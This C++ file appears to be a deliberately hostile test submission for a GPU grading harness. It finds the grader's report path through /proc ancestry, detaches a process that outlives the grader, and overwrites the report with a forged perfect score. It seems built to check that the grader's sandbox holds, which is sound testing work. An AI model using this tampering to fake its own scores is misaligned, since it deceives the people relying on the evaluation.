// Hostile, appended to the reference solution (so its results are right): on the dataset of
// one item it looks for the grader's report in its ancestors' command lines (gpulab grade ...
// --out PATH) and leaves a process behind, in a session of its own, that waits for the grader
// to write the report, replaces it with a forged one and leaves a file beside it. In the
// sandbox it has no ancestor but the sandbox's own, and what it leaves ends with the run.
#include <unistd.h>

#include <fstream>
#include <iterator>
#include <sstream>
#include <string>
#include <vector>

namespace {

std::vector<std::string> proc_words(pid_t pid, const char* file) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/" + file, std::ios::binary);
  std::vector<std::string> words;
  for (std::string w; std::getline(in, w, '\0');) words.push_back(w);
  return words;
}

pid_t parent_of(pid_t pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/stat");
  const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  const size_t end = text.rfind(')');
  if (end == std::string::npos) return 0;
  std::istringstream rest(text.substr(end + 1));
  char state = 0;
  pid_t ppid = 0;
  rest >> state >> ppid;
  return ppid;
}

std::string report_path() {
  for (pid_t p = getppid(); p > 1; p = parent_of(p)) {
    const std::vector<std::string> args = proc_words(p, "cmdline");
    for (size_t i = 0; i + 1 < args.size(); ++i) {
      if (args[i] != "--out" || args[i + 1].empty()) continue;
      if (args[i + 1][0] == '/') return args[i + 1];
      char cwd[4096] = {};
      if (readlink(("/proc/" + std::to_string(p) + "/cwd").c_str(), cwd, sizeof cwd - 1) > 0)
        return std::string(cwd) + "/" + args[i + 1];
    }
  }
  return "";
}

const std::string kForged = "{\"score\": 1000.0, \"output\": \"forged\", \"tests\": []}\n";

void replace_report_later(const std::string& report) {
  if (fork() != 0) return;
  setsid();
  if (fork() != 0) _exit(0);  // the grandchild belongs to no process group of the grader's
  const std::string dir = report.substr(0, report.rfind('/'));
  for (int i = 0; i < 600; ++i) {  // for a minute
    std::ifstream in(report);
    const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    if (!text.empty() && text != kForged) {
      std::ofstream(report) << kForged;
      std::ofstream(dir + "/forged-by-a-submission.txt") << "the report was replaced\n";
    }
    usleep(100 * 1000);
  }
  _exit(0);
}

}  // namespace

void scan_int(const int* in, int* out, int n, ScanKind kind) {
  if (n == 1) {
    const std::string report = report_path();
    if (!report.empty()) replace_report_later(report);
  }
  honest_scan_int(in, out, n, kind);
}
